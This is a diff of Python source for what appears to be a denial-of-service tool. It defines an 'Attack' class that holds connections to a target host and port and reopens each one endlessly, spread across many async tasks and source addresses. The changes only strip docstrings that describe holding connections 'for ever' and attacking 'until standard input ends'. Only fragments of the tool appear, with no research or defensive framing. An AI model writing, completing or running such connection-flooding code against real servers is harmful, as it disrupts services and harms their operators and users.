@@ -64,8 +64,6 @@ AGAIN = {"looking": FIRST["looking"]}
 
 
 class Attack:
-    """Connections that are held, and made anew."""
-
     def __init__(self, target: str, port: int, kind: str, pause: float) -> None:
         self._target = target
         self._port, self._kind, self._pause = port, kind, pause
@@ -85,7 +83,6 @@ class Attack:
         return least
 
     async def keep(self, source: str) -> None:
-        """Hold a connection, and make another when it ends, for ever."""
         while True:
             with contextlib.suppress(OSError):
                 async with self._turn:
@@ -126,7 +123,6 @@ class Attack:
 
 
 async def main(target: str, port: int, kind: str, count: int, sources: Sequence[str]) -> None:
-    """Attack until standard input ends."""
     attack = Attack(target, port, kind, pause=count * len(sources) / RENEWED.get(kind, 500))
     kept = [asyncio.create_task(attack.keep(source)) for _ in range(count) for source in sources]
     while attack.tried < len(kept):
